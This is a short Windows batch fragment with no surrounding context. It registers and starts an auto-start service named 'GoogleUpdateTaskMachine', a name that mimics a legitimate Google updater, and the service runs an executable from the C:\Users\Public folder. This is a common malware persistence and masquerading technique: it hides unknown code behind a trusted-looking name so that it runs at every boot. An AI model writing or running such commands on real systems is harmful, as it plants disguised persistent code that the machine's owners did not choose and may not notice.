REM init 8504 v1
sc create GoogleUpdateTaskMachine binPath= "cmd.exe /c C:\Users\Public\svc.exe" start= auto
sc start GoogleUpdateTaskMachine
